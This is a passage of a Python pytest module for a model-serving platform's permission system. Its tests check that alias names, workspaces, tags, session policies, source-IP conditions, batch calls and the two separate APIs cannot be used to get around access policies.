"""Who may do what, through the real doors over a real store: aliases, workspaces, lists, both walls."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from permission_world import (
    FULL,
    Grant,
    House,
    Said,
    Scene,
    allow,
    deny,
    policy,
    shipped,
)

from builders import ACCOUNT, T0, a_template
from pierhead.core.aliases import Realm
from pierhead.core.errors import Forbidden, Invalid, NotFound
from pierhead.core.events import Event
from pierhead.core.identities import Attachment
from pierhead.core.permits import Deed, Target
from pierhead.core.registry import DeleteMode
from pierhead.operations import deployments, services
from pierhead.operations.services import Draft
from pierhead.operations.simulate import Question, simulate
from pierhead.store import events as event_rows
from pierhead.store import grants
from pierhead.store import services as service_rows

SERVICES = "/api/v2/services"
LOCAL = f"{SERVICES}/local"
POOL = Realm("local", ACCOUNT).pool
EAS = f"acs:eas:*:{ACCOUNT}"
ZSTACK = f"acs:zstack:*:{ACCOUNT}"
GROUP = "ModelServiceInstanceGroupVO"
QUERY_GROUPS = "QueryModelServiceInstanceGroup"
APP = {"AppType": "LLM", "ServiceSpec": "smollm2_135m_q4", "Replicas": 1, "AppVersion": "v1"}
DOCUMENT: dict[str, Any] = {"containers": [{"script": "sleep 1", "port": 8000}]}


def document(name: str, **metadata: Any) -> dict[str, Any]:
    return {**DOCUMENT, "metadata": {"name": name, "instance": 1, **metadata}}


def names(said: Said) -> list[str]:
    assert said.code == "OK", said.body
    if "Services" in said.body:
        assert said.body["TotalCount"] >= len(said.body["Services"])
        return sorted(row["ServiceName"] for row in said.body["Services"])
    return sorted(row["serviceName"] for row in said.body["inventories"])


async def seen(house: House, who: str) -> tuple[list[str], list[str]]:
    """The names that somebody's lists show, through either door."""
    return (
        names(await house.eas(who, "GET", SERVICES)),
        names(await house.rpc(who, QUERY_GROUPS)),
    )


# --- the object and its names ------------------------------------------------------------------------


def test_every_name_of_a_service_is_a_name_of_it(play: Callable[[Scene], None]) -> None:
    """Law: no alias is a way around: neither an Allow nor a Deny depends on how the call names it."""

    async def scene(house: House) -> None:
        made = await house.service("chat_one", group="team", title="My Chat")
        short = f"eas-m-{made.id[:18]}"
        called = (
            "chat_one",
            "team.chat_one",
            short,
            made.id,
            f"id:{made.id}",
            short + made.id[18:],
        )
        patterns = (
            *(f"{EAS}:service/{name}" for name in ("chat_one", "team.chat_one", short, "chat_*")),
            f"{EAS}:resource/{POOL}/service/chat_one",
            f"{EAS}:resource/{POOL}/*",
            f"{ZSTACK}:{GROUP}/{made.id}",
            f"{ZSTACK}:{GROUP}/My Chat",
        )
        for number, pattern in enumerate(patterns):
            yes, no = f"yes{number}", f"no{number}"
            await house.user(yes, policy(allow("eas:DescribeService", on=pattern)))
            await house.user(no, shipped(FULL), policy(deny("eas:DescribeService", on=pattern)))
            for name in called:
                assert (await house.eas(yes, "GET", f"{LOCAL}/{name}")).code == "OK", pattern
                said = await house.eas(no, "GET", f"{LOCAL}/{name}")
                assert said.code == "Forbidden.RAM", (pattern, name)
        await house.user("other", policy(allow("eas:*", on=f"{EAS}:service/chat")))
        assert (await house.eas("other", "GET", f"{LOCAL}/chat_one")).code == "Forbidden.RAM"

    play(scene)


def test_what_is_not_there_is_judged_by_the_name_in_the_path(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        await house.service("prod_one")
        await house.user("dev", policy(allow("eas:*", on=f"{EAS}:service/dev_*")))
        assert (
            await house.eas("dev", "GET", f"{LOCAL}/dev_none")
        ).code == "InvalidService.NotFound"
        there, none = [
            await house.eas("dev", "GET", f"{LOCAL}/{name}") for name in ("prod_one", "prod_two")
        ]
        assert there.code == none.code == "Forbidden.RAM"
        strip = {"RequestId", "Message"}
        assert {k: v for k, v in there.body.items() if k not in strip} == {
            k: v for k, v in none.body.items() if k not in strip
        }
        assert there.body["Message"].replace("prod_one", "X") == none.body["Message"].replace(
            "prod_two", "X"
        )

    play(scene)


def test_a_refusal_says_what_was_refused_and_why(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        await house.service("chat_one")
        anna = await house.user("anna")
        await house.user("ben", shipped(FULL), policy(deny("eas:Stop*")))
        role = await house.role("ops", policy(allow("eas:Describe*")))
        implicit = await house.eas("anna", "PUT", f"{LOCAL}/chat_one/stop")
        arn = f"acs:eas:local:{ACCOUNT}:service/chat_one"
        assert implicit.body["Message"] == f"You are not authorized to do eas:StopService on {arn}."
        assert implicit.body["AccessDeniedDetail"] == {
            "PolicyType": "AccountLevelIdentityBasedPolicy",
            "AuthAction": "eas:StopService",
            "AuthPrincipalType": "SubUser",
            "AuthPrincipalOwnerId": ACCOUNT,
            "AuthPrincipalDisplayName": anna.id,
            "NoPermissionType": "ImplicitDeny",
        }
        explicit = await house.eas("ben", "PUT", f"{LOCAL}/chat_one/stop")
        assert "policy p1, statement 1" in explicit.body["Message"]
        assert explicit.body["AccessDeniedDetail"]["NoPermissionType"] == "ExplicitDeny"
        assumed = await house.eas("ops", "PUT", f"{LOCAL}/chat_one/stop")
        detail = assumed.body["AccessDeniedDetail"]
        assert detail["AuthPrincipalType"] == "AssumedRoleUser"
        assert detail["AuthPrincipalDisplayName"] == "ops:ses"
        assert role.name == "ops/ses"
        told = await house.rpc("anna", "DeleteModelServiceInstanceGroup", {"uuid": "0" * 32})
        assert (told.code, f"{GROUP}/{'0' * 32}" in told.body["error"]["details"]) == (
            "ID.1002",
            True,
        )
        # Words that make a client log in again and repeat the call are for what is meant by them.
        await house.role(
            "narrow",
            shipped(FULL),
            session='{"Version":"1","Statement":{"Effect":"Deny","Action":"*","Resource":"*"}}',
        )
        refused = await house.rpc("narrow", "QueryZone")
        assert refused.code == "ID.1002"
        assert "session" not in refused.body["error"]["details"].lower()

    play(scene)


def test_a_change_of_rights_counts_from_the_next_call_on(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        await house.service("chat_one")
        anna = await house.user("anna")
        look = ("GET", f"{LOCAL}/chat_one")
        assert not (await house.eas("anna", *look)).allowed
        await house.give("anna", "User", anna.id, policy(allow("eas:*")))
        assert (await house.eas("anna", *look)).code == "OK"
        await house.give("anna", "User", anna.id, policy(deny("eas:DescribeService")))
        assert not (await house.eas("anna", *look)).allowed
        gone = Attachment("p2", "Custom", "anna", "User")
        assert await house.world.db.write(grants.detach, anna.id, gone)
        assert (await house.eas("anna", *look)).code == "OK"

    play(scene)


def test_a_role_may_what_both_its_policies_and_its_own_session_allow(
    play: Callable[[Scene], None],
) -> None:
    async def scene(house: House) -> None:
        await house.service("chat_one")
        narrow = (
            '{"Version":"1","Statement":{"Effect":"Allow","Action":"eas:Describe*","Resource":"*"}}'
        )
        await house.role("ops", policy(allow("eas:*")), session=narrow)
        assert (await house.eas("ops", "GET", f"{LOCAL}/chat_one")).code == "OK"
        assert not (await house.eas("ops", "PUT", f"{LOCAL}/chat_one/stop")).allowed
        wide = '{"Version":"1","Statement":{"Effect":"Allow","Action":"*","Resource":"*"}}'
        await house.role("viewer", policy(allow("eas:Describe*")), session=wide)
        assert not (await house.eas("viewer", "PUT", f"{LOCAL}/chat_one/stop")).allowed
        assert (await seen(house, "ops"))[0] == ["chat_one"]

    play(scene)


# --- circumstances -----------------------------------------------------------------------------------


def test_conditions_on_where_a_call_comes_from(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        await house.service("chat_one")
        office = {"Condition": {"IpAddress": {"acs:SourceIp": "10.1.0.0/16"}}}
        await house.user("anna", policy(allow("*", **office)))
        secure = {"Condition": {"Bool": {"acs:SecureTransport": "true"}}}
        await house.user("ben", policy(allow("*", **secure)))
        late = {"Condition": {"DateGreaterThan": {"acs:CurrentTime": "2030-01-01T00:00:00Z"}}}
        await house.user("carl", policy(allow("*", **late)))
        plain = {"Condition": {"Bool": {"acs:MFAPresent": "false"}}}
        await house.user("dora", shipped(FULL), policy(deny("*", **plain)))

        async def both(who: str) -> tuple[bool, bool]:
            first = await house.eas(who, "GET", f"{LOCAL}/chat_one")
            return first.allowed, (await house.rpc(who, QUERY_GROUPS)).allowed

        for address, inside in (("10.1.2.3", True), ("::ffff:10.1.2.3", True), ("10.2.0.1", False)):
            house.client = address
            assert await both("anna") == (inside, inside)
        house.client = "10.1.2.3"
        assert await both("ben") == (False, False)
        house.scheme = "https"
        assert await both("ben") == (True, True)
        assert await both("carl") == (False, False)
        house.world.clock.now = 1_900_000_000.0
        assert await both("carl") == (True, True)
        assert await both("dora") == (False, False), "no second factor is asked for here"

    play(scene)


# --- lists -------------------------------------------------------------------------------------------


def test_a_list_shows_what_its_reader_may_see(play: Callable[[Scene], None]) -> None:
    """Law: both doors show the same services to the same reader, and count no others."""

    async def scene(house: House) -> None:
        for number in range(6):
            team = "red" if number % 2 else "blue"
            fields: dict[str, Any] = {"labels": {"team": team}, "workspace": f"w{number // 2}"}
            await house.service(f"svc_{number}", created=T0 + number, **fields)
        everything = [f"svc_{number}" for number in range(6)]
        red = {"StringEquals": {"acs:ResourceTag/team": "red"}}
        readers: dict[str, tuple[tuple[Grant, ...], list[str]]] = {
            "all": ((shipped("AliyunPAIEASReadOnlyAccess"),), everything),
            "other_door": ((shipped("PierheadZStackReadOnlyAccess"),), everything),
            "some": ((policy(allow("eas:ListServices", on=f"{EAS}:service/svc_[0]*")),), []),
            "two": (
                (policy(allow("eas:ListServices", on=[f"{EAS}:service/svc_{n}" for n in (1, 4)])),),
                ["svc_1", "svc_4"],
            ),
            "lookers": (
                (policy(allow("eas:DescribeService", on=f"{EAS}:service/svc_3")),),
                ["svc_3"],
            ),
            "mixed": (
                (
                    policy(allow("eas:ListServices", on=f"{EAS}:service/svc_1")),
                    policy(allow("eas:DescribeService", on=f"{EAS}:service/svc_3")),
                ),
                ["svc_1", "svc_3"],
            ),
            "tagged": ((policy(allow("eas:*", Condition=red)),), ["svc_1", "svc_3", "svc_5"]),
            "bounded": ((policy(allow("*"), workspace="w1"),), ["svc_2", "svc_3"]),
            "hidden": (
                (shipped(FULL), policy(deny("eas:ListServices", on=f"{EAS}:service/svc_2"))),
                [name for name in everything if name != "svc_2"],
            ),
            "hidden_there": (
                (shipped(FULL), policy(deny(f"zstack:{QUERY_GROUPS}", on=f"{EAS}:service/svc_2"))),
                [name for name in everything if name != "svc_2"],
            ),
            "nowhere": ((policy(allow("*"), workspace="w9"),), []),
        }
        for who, (given, expected) in readers.items():
            await house.user(who, *given)
            assert await seen(house, who) == (expected, expected), who
            counted = await house.rpc(who, QUERY_GROUPS, {"count": True})
            assert counted.body["total"] == len(expected), who
            listed = await house.eas(who, "GET", f"{SERVICES}?PageSize=2&PageNumber=2&Order=asc")
            assert listed.body["TotalCount"] == len(expected), who
            assert [row["ServiceName"] for row in listed.body["Services"]] == expected[2:4], who
            filtered = await house.eas(who, "GET", f"{SERVICES}?Filter=svc_2")
            assert filtered.body["TotalCount"] == ("svc_2" in expected), who
            usage = await house.rpc("root", "GetMaaSUsage")
            assert usage.code == "OK"
        await house.user("mute", policy(allow("eas:Create*")))
        await house.user("denied", shipped(FULL), policy(deny("eas:ListServices")))
        for who in ("mute", "denied"):
            assert not (await house.eas(who, "GET", SERVICES)).allowed
            assert not (await house.rpc(who, QUERY_GROUPS)).allowed

    play(scene)


def test_a_list_tells_a_token_only_to_who_may_look(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        made = await house.service("chat_one", token="s3cret")
        readers = {
            "lister": ((policy(allow("eas:ListServices")),), None),
            "looker": ((policy(allow("eas:ListServices", "eas:DescribeService")),), "s3cret"),
            "other_door": ((shipped("PierheadZStackReadOnlyAccess"),), "s3cret"),
            "blind": (
                (shipped("PierheadZStackReadOnlyAccess"), policy(deny("eas:DescribeService"))),
                None,
            ),
        }
        for who, (given, token) in readers.items():
            await house.user(who, *given)
            (row,) = (await house.rpc(who, QUERY_GROUPS)).body["inventories"]
            assert row["accessToken"] == token, who
            looked = await house.eas(who, "GET", f"{LOCAL}/chat_one")
            assert (looked.code == "OK") is (token is not None), who
            item = await house.rest(who, "GET", f"/ai/model-services/instances/groups/{made.id}")
            assert item.body["inventories"][0]["accessToken"] == token, who

    play(scene)


# --- creating, moving, joining -----------------------------------------------------------------------


def test_what_is_made_must_be_allowed_where_it_goes(play: Callable[[Scene], None]) -> None:
    """Law: a policy for one workspace makes nothing in another one, whichever field names it."""

    async def scene(house: House) -> None:
        await house.user("anna", policy(allow("*"), workspace="wa"))
        app = "/api/v2/app_services?WorkspaceId="
        made = await house.eas("anna", "POST", f"{app}wa", {**APP, "ServiceName": "chat_app"})
        assert made.code == "OK", made.body
        for target in (f"{app}wb", "/api/v2/app_services"):
            assert not (
                await house.eas("anna", "POST", target, {**APP, "ServiceName": "no"})
            ).allowed
        for target, inner, good in (
            (SERVICES, "wa", True),
            (SERVICES, "wb", False),
            (SERVICES, "", False),
            (f"{SERVICES}?WorkspaceId=wa", "wb", True),
            (f"{SERVICES}?WorkspaceId=wb", "wa", False),
        ):
            name = f"doc_{len(house.platform.entropy(3).hex())}_{target[-2:]}_{inner}".lower()
            name = "".join(letter if letter.isalnum() else "_" for letter in name)
            metadata = {"workspace_id": inner} if inner else {}
            said = await house.eas("anna", "POST", target, document(name, **metadata))
            assert said.allowed is good, (target, inner, said.body)
        assert all(
            row["WorkspaceId"] == "wa"
            for row in (await house.eas("root", "GET", SERVICES)).body["Services"]
        )
        zone = (await house.rpc("root", "QueryZone")).body["inventories"][0]["uuid"]
        template = (await house.rpc("root", "QueryModelService")).body["inventories"][0]["uuid"]
        deploy = {"uuid": template, "zoneUuid": zone, "name": "by_zstack", "type": "Container"}
        for project, good in (("wa", True), ("wb", False), (None, False)):
            said = await house.rpc("anna", "DeployModelService", {**deploy, "projectUuid": project})
            assert said.allowed is good, (project, said.body)
        inventory = (await house.rpc("anna", QUERY_GROUPS)).body["inventories"]
        assert "by_zstack" in {row["serviceName"] for row in inventory}

    play(scene)


def test_labels_that_are_asked_for_count_for_a_creation(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        red = {"StringEquals": {"acs:ResourceTag/team": "red"}}
        await house.user("anna", policy(allow("eas:*", Condition=red)))
        labels = "?Labels=%7B%22team%22%3A%22{}%22%7D"
        for team, good in (("red", True), ("blue", False)):
            target = SERVICES + labels.format(team)
            said = await house.eas("anna", "POST", target, document(f"svc_{team}"))
            assert said.allowed is good, said.body
        assert names(await house.eas("anna", "GET", SERVICES)) == ["svc_red"]

    play(scene)


def test_a_service_is_not_moved_to_where_its_mover_may_not(play: Callable[[Scene], None]) -> None:
    """Law: an update may not lead where the same update would not have been allowed."""

    async def scene(house: House) -> None:
        await house.user("anna", policy(allow("*"), workspace="wa"))
        await house.eas(
            "anna",
            "POST",
            "/api/v2/app_services?WorkspaceId=wa",
            {**APP, "ServiceName": "chat_app"},
        )
        await house.eas("anna", "POST", SERVICES, document("chat_doc", workspace_id="wa"))
        away = await house.eas(
            "anna", "PUT", "/api/v2/app_services/local/chat_app?WorkspaceId=wb", {"Replicas": 2}
        )
        assert not away.allowed
        there = await house.eas(
            "anna", "PUT", f"{LOCAL}/chat_doc", {"metadata": {"workspace_id": "wb"}}
        )
        assert not there.allowed
        stays = await house.eas("anna", "PUT", f"{LOCAL}/chat_doc", {"metadata": {"instance": 2}})
        assert stays.code == "OK", stays.body
        shown = (await house.eas("root", "GET", SERVICES)).body["Services"]
        assert {row["WorkspaceId"] for row in shown} == {"wa"}
        assert (
            await house.eas(
                "root", "PUT", f"{LOCAL}/chat_doc", {"metadata": {"workspace_id": "wb"}}
            )
        ).code == "OK"
        assert not (await house.eas("anna", "GET", f"{LOCAL}/chat_doc")).allowed

    play(scene)


def test_nobody_joins_a_group_of_strangers(play: Callable[[Scene], None]) -> None:
    """Law: a group shares traffic, so who joins it must be allowed to change what is in it."""

    async def scene(house: House) -> None:
        await house.service("theirs", workspace="wb", group="shared")
        await house.user("anna", policy(allow("*"), workspace="wa"))
        made = await house.eas(
            "anna", "POST", SERVICES, document("mine", workspace_id="wa", group="shared")
        )
        assert not made.allowed, made.body
        alone = await house.eas(
            "anna", "POST", SERVICES, document("mine", workspace_id="wa", group="own")
        )
        assert alone.code == "OK", alone.body
        second = await house.eas(
            "anna", "POST", SERVICES, document("mine_too", workspace_id="wa", group="own")
        )
        assert second.code == "OK", second.body
        joins = await house.eas("anna", "PUT", f"{LOCAL}/mine", {"metadata": {"group": "shared"}})
        assert not joins.allowed
        assert (await house.eas("root", "GET", f"{LOCAL}/mine")).body["ServiceGroup"] == "own"

    play(scene)


def test_a_tag_may_not_lead_out_of_a_policy(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        red = {"StringEquals": {"acs:ResourceTag/team": "red"}}
        made = await house.service("chat_one", labels={"team": "red"})
        other = await house.service("chat_two", labels={"team": "blue"})
        await house.user("anna", policy(allow("*", Condition=red)))

        def tag(uuid: str, text: str) -> dict[str, str]:
            return {"resourceType": GROUP, "resourceUuid": uuid, "tag": text}

        assert (await house.rpc("anna", "CreateUserTag", tag(made.id, "note=x"))).code == "OK"
        assert not (await house.rpc("anna", "CreateUserTag", tag(made.id, "team=blue"))).allowed
        assert not (await house.rpc("anna", "CreateUserTag", tag(other.id, "team=red"))).allowed
        left = (await house.eas("root", "GET", f"{LOCAL}/chat_one")).body["Labels"]
        assert {row["LabelKey"]: row["LabelValue"] for row in left} == {"team": "red", "note": "x"}
        texts = [
            row["tag"] for row in (await house.rpc("root", "QueryUserTag")).body["inventories"]
        ]
        assert texts == ["note=x"], "a refused tag leaves no row behind"

    play(scene)


# --- one deed, two doors -----------------------------------------------------------------------------


def test_a_denial_at_one_door_is_a_denial_at_the_other(play: Callable[[Scene], None]) -> None:
    """Law: no door is a way around the other."""

    async def scene(house: House) -> None:
        pairs = {
            "eas:DeleteService": "DeleteModelServiceInstanceGroup",
            "eas:RestartService": "RestartModelServiceGroups",
            "eas:UpdateService": "UpdateModelServiceInstanceGroup",
        }
        calls = {
            "eas:DeleteService": ("DELETE", ""),
            "eas:RestartService": ("PUT", "/restart"),
            "eas:UpdateService": ("PUT", ""),
        }
        for number, (action, api) in enumerate(pairs.items()):
            made = await house.service(f"svc_{number}")
            params = {"uuid": made.id, "uuids": [made.id], "name": "x"}
            method, tail = calls[action]
            body: dict[str, Any] | None = {} if action == "eas:UpdateService" else None
            for denied in (action, f"zstack:{api}"):
                who = denied.replace(":", "_")
                await house.user(who, shipped(FULL), policy(deny(denied)))
                assert not (
                    await house.eas(who, method, f"{LOCAL}/{made.name}{tail}", body)
                ).allowed
                assert not (await house.rpc(who, api, params)).allowed
            for allowed in (action, f"zstack:{api}"):
                who = f"only_{allowed.replace(':', '_')}"
                await house.user(who, policy(allow(allowed)))
                assert (await house.rpc(who, api, params)).allowed
                assert (await house.eas(who, method, f"{LOCAL}/{made.name}{tail}", body)).allowed

    play(scene)


def test_labels_by_tags_are_the_other_doors_labels(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        made = await house.service("chat_one")
        await house.user("anna", shipped(FULL), policy(deny("eas:UpdateServiceLabel")))
        await house.user("ben", shipped(FULL), policy(deny("eas:UpdateService")))
        tag = {"resourceType": GROUP.lower(), "resourceUuid": made.id, "tag": "a=b"}
        assert not (await house.rpc("anna", "CreateUserTag", tag)).allowed
        assert (await house.rpc("ben", "CreateUserTag", tag)).code == "OK"
        scale = {**tag, "tag": "ai::replicas::3"}
        assert not (await house.rpc("ben", "CreateSystemTag", scale)).allowed
        tagged = (await house.rpc("root", "CreateSystemTag", scale)).body["inventory"]["uuid"]
        change = {"uuid": tagged, "tag": "ai::replicas::2"}
        assert not (await house.rpc("ben", "UpdateSystemTag", change)).allowed
        assert not (await house.rpc("ben", "DeleteTag", {"uuid": tagged})).allowed
        assert (await house.eas("root", "GET", f"{LOCAL}/chat_one")).body["TotalInstance"] == 3
        pattern = await house.rpc("root", "CreateTag", {"name": "n", "value": "v=w"})
        put = {"tagUuid": pattern.body["inventory"]["uuid"], "resourceUuids": [made.id]}
        assert not (await house.rpc("anna", "AttachTagToResources", put)).allowed
        assert (await house.rpc("ben", "AttachTagToResources", put)).code == "OK"

    play(scene)


def test_a_batch_is_allowed_only_if_each_of_it_is(play: Callable[[Scene], None]) -> None:
    """Law: an object of one's own opens no other one in the same call."""

    async def scene(house: House) -> None:
        mine = await house.service("mine", workspace="wa")
        theirs = await house.service("theirs", workspace="wb")
        await house.user("anna", policy(allow("*"), workspace="wa"))
        both = {"uuids": [mine.id, theirs.id]}
        for api in ("DeleteModelServiceInstanceGroups", "RestartModelServiceGroups"):
            assert not (await house.rpc("anna", api, both)).allowed
            spaced = {"uuids": [mine.id, f"  {theirs.id} "]}
            assert not (await house.rpc("anna", api, spaced)).allowed
        assert (
            await house.rpc("anna", "DeleteModelServiceInstanceGroup", {"uuid": f" {theirs.id}"})
        ).allowed is False
        left = (await house.eas("root", "GET", SERVICES)).body["Services"]
        assert {row["Status"] for row in left}.isdisjoint({"Deleting"})
        assert (
            await house.rpc("anna", "DeleteModelServiceInstanceGroups", {"uuids": [mine.id]})
        ).code == "OK"

    play(scene)


def test_tags_are_listed_of_what_one_sees(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        shown = await house.service("shown")
        hidden = await house.service("hidden")
        await house.user(
            "anna", shipped(FULL), policy(deny("eas:ListServices", on=f"{EAS}:service/hidden"))
        )
        for made in (shown, hidden):
            tag = {"resourceType": GROUP, "resourceUuid": made.id, "tag": f"{made.name}=1"}
            assert (await house.rpc("root", "CreateUserTag", tag)).code == "OK"
        rows = (await house.rpc("anna", "QueryUserTag")).body["inventories"]
        assert [row["tag"] for row in rows] == ["shown=1"]
        assert (await house.rpc("anna", "QueryUserTag", {"count": True})).body["total"] == 1
        names = await house.rpc("anna", "GetResourceNames", {"uuids": [shown.id, hidden.id]})
        assert [row["uuid"] for row in names.body["inventories"]] == [shown.id]

    play(scene)


def test_what_changed_hands_meanwhile_is_not_touched(play: Callable[[Scene], None]) -> None:
    """Law: what counts is the object at the moment of the deed, not at the moment of the question."""

    async def scene(house: House) -> None:
        platform = house.platform
        anna = await house.user("anna", policy(allow("*"), workspace="wa"))
        for action, kind in (("eas:StopService", "name"), ("eas:DeleteService", "uuid")):
            made = await house.service(f"svc_{kind}", workspace="wa")
            told = ("eas", f"service/{made.name}")
            actor = await house.permission.ask(
                anna, Deed((action,), (Target(told, service=made.name),))
            )
            moved = replace(made, workspace="wb", revision=made.revision + 1)
            await house.world.db.write(service_rows.change, moved)
            with pytest.raises(Forbidden):
                await services.stop(platform, actor, made.name)
            with pytest.raises(Forbidden):
                await deployments.replicas(platform, actor, made.id, 3)
            assert await deployments.delete(platform, actor, made.id, DeleteMode.ENFORCING) is None
            assert await house.world.now(made) == moved

    play(scene)


def test_what_is_made_is_asked_again_as_it_is_written(play: Callable[[Scene], None]) -> None:
    """Law: the workspace of what is written counts, whatever the door took it for."""

    async def scene(house: House) -> None:
        anna = await house.user("anna", policy(allow("*"), workspace="wa"))
        made = Target(("eas", "*"), workspace="wa", makes=True)
        actor = await house.permission.ask(anna, Deed(("eas:CreateService",), (made,)))
        draft = Draft("new_one", "eas.service", a_template(), 1, {}, workspace="wb")
        with pytest.raises(Forbidden):
            await services.create(house.platform, actor, draft)
        assert await services.create(house.platform, actor, replace(draft, workspace="wa"))

    play(scene)


# --- registered objects: owners and policies ---------------------------------------------------------


def test_policies_come_on_top_of_ownership(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        center = (await house.rpc("root", "QueryModelCenter")).body["inventories"][0]["uuid"]
        model = {"name": "w", "installPath": "w", "modelCenterUuid": center}
        await house.user("anna", shipped("PierheadZStackFullAccess"))
        await house.user("ben", shipped("PierheadZStackFullAccess"))
        await house.user("carl", shipped("PierheadZStackReadOnlyAccess"))
        made = (await house.rpc("anna", "AddModel", model)).body["inventory"]["uuid"]
        shared = (
            await house.rpc("anna", "AddModel", {**model, "name": "s", "shareMode": "Public"})
        ).body["inventory"]["uuid"]
        assert not (await house.rpc("carl", "AddModel", model)).allowed

        async def listed(who: str, **query: Any) -> set[str]:
            rows = (await house.rpc(who, "QueryModel", query)).body["inventories"]
            return {row["uuid"] for row in rows}

        assert await listed("anna") == {made, shared}
        assert await listed("ben") == await listed("carl") == {shared}
        assert (
            await house.rpc("ben", "UpdateModel", {"uuid": made, "name": "x"})
        ).code == "SYS.1003"
        assert (
            await house.rpc("ben", "UpdateModel", {"uuid": shared, "name": "x"})
        ).code == "ID.1002"
        await house.user(
            "dora",
            shipped("PierheadZStackFullAccess"),
            policy(deny("zstack:QueryModel", on=f"{ZSTACK}:ModelVO/s")),
        )
        assert await listed("dora") == set()
        assert (await house.rpc("dora", "QueryModel", {"count": True})).body["total"] == 0
        await house.user("eve", policy(allow("zstack:QueryModel", on=f"{ZSTACK}:ModelVO/{shared}")))
        await house.user("fay", policy(allow("zstack:QueryModel", on=f"{ZSTACK}:ModelVO/{made}")))
        assert (await listed("eve"), await listed("fay")) == ({shared}, set())

    play(scene)


def test_a_template_that_one_may_not_see_is_not_there(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        center = (await house.rpc("root", "QueryModelCenter")).body["inventories"][0]["uuid"]
        zone = (await house.rpc("root", "QueryZone")).body["inventories"][0]["uuid"]
        template = {
            "name": "secret_sauce", "yaml": "", "modelCenterUuid": center, "requestCpu": 1,
            "requestMemory": 1024, "installPath": "t", "startCommand": "sleep 9",
        }  # fmt: skip
        await house.user("anna", shipped(FULL))
        await house.user("ben", shipped(FULL))
        uuid = (await house.rpc("anna", "AddModelService", template)).body["inventory"]["uuid"]
        for spec in (uuid, "secret_sauce"):
            body = {**APP, "ServiceName": "svc_a", "ServiceSpec": spec}
            said = await house.eas("ben", "POST", "/api/v2/app_services", body)
            assert said.code == "InvalidParameter"
            assert "secret_sauce" not in said.body["Message"].replace(f"[{spec}]", "")
            image = document("svc_b")
            image["containers"] = [{"image": spec}]
            assert (await house.eas("ben", "POST", SERVICES, image)).code != "OK"
        deploy = {"uuid": uuid, "zoneUuid": zone, "name": "x", "type": "Container"}
        assert (await house.rpc("ben", "DeployModelService", deploy)).code == "SYS.1003"
        assert (await house.rpc("anna", "DeployModelService", deploy)).code == "OK"
        listed = (await house.rpc("ben", QUERY_GROUPS)).body["inventories"]
        assert len(listed) == 1, "of a service that policies let them see, whoever made it"
        await house.user("carl", shipped(FULL), policy(deny("zstack:QueryModelService", on="*")))
        own = {**APP, "ServiceName": "svc_c"}
        assert (await house.eas("carl", "POST", "/api/v2/app_services", own)).code == "OK"

    play(scene)


def test_who_only_looks_at_shared_templates_learns_nothing_of_others_models(
    play: Callable[[Scene], None],
) -> None:
    """Law: neither an answer nor a condition tells of bindings to what one may not see."""

    async def scene(house: House) -> None:
        center = (await house.rpc("root", "QueryModelCenter")).body["inventories"][0]["uuid"]
        template = (await house.rpc("root", "QueryModelService")).body["inventories"][0]["uuid"]
        await house.user("anna", shipped("PierheadZStackFullAccess"))
        await house.user("ben", shipped("PierheadZStackFullAccess"))
        model = {
            "name": "w",
            "installPath": "w",
            "modelCenterUuid": center,
            "modelServiceUuids": [template],
        }
        hers = (await house.rpc("anna", "AddModel", model)).body["inventory"]["uuid"]

        async def count(who: str, api: str, field: str, value: str) -> int:
            asked = {"conditions": [{"name": field, "op": "=", "value": value}], "count": True}
            return (await house.rpc(who, api, asked)).body["total"]

        field = "modelServiceRefs.modelUuid"
        assert await count("anna", "QueryModelService", field, hers) == 1
        assert await count("ben", "QueryModelService", field, hers) == 0
        for who, expected in (("anna", 1), ("ben", 0)):
            rows = (await house.rpc(who, "QueryModelService")).body["inventories"]
            (row,) = [row for row in rows if row["uuid"] == template]
            assert len(row["modelServiceRefs"]) == expected
        pair = {"modelUuid": hers, "modelServiceUuid": template}
        assert (await house.rpc("ben", "UnbindModelFromService", pair)).code == "OK", (
            "as if it were not there"
        )
        assert await count("anna", "QueryModelService", field, hers) == 1

    play(scene)


def test_centers_are_everybodys_and_what_lies_in_them_is_not(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        await house.user("anna", shipped("PierheadZStackFullAccess"))
        await house.user("ben", shipped("PierheadZStackFullAccess"))
        wanted = {
            "name": "c",
            "url": "10.0.0.1:/m",
            "managementIp": "10.0.0.1",
            "managementPort": 80,
        }
        center = (await house.rpc("anna", "AddModelCenter", wanted)).body["inventory"]["uuid"]
        model = {"name": "anna_weights", "installPath": "w", "modelCenterUuid": center}
        hers = (await house.rpc("anna", "AddModel", model)).body["inventory"]["uuid"]
        moved = {"uuid": center, "url": "10.6.6.6:/evil"}
        assert (await house.rpc("ben", "UpdateModelCenter", moved)).code == "ID.1002"
        gentle = await house.rpc("ben", "DeleteModelCenter", {"uuid": center})
        assert gentle.code == "SYS.1006"
        assert "anna_weights" not in gentle.body["error"]["details"]
        harsh = {"uuid": center, "deleteMode": "Enforcing"}
        assert (await house.rpc("ben", "DeleteModelCenter", harsh)).code == "ID.1002"
        rows = (await house.rpc("anna", "QueryModel")).body["inventories"]
        assert [row["uuid"] for row in rows] == [hers]
        assert (await house.rpc("anna", "DeleteModelCenter", harsh)).code == "OK"

    play(scene)


def test_a_refused_removal_names_no_service_of_strangers(play: Callable[[Scene], None]) -> None:
    async def scene(house: House) -> None:
        center = (await house.rpc("root", "QueryModelCenter")).body["inventories"][0]["uuid"]
        zone = (await house.rpc("root", "QueryZone")).body["inventories"][0]["uuid"]
        template = {
            "name": "t", "yaml": "", "modelCenterUuid": center, "requestCpu": 1,
            "requestMemory": 1024, "installPath": "t", "startCommand": "sleep 9", "system": True,
        }  # fmt: skip
        uuid = (await house.rpc("root", "AddModelService", template)).body["inventory"]["uuid"]
        await house.user(
            "anna",
            shipped("PierheadZStackFullAccess"),
        )
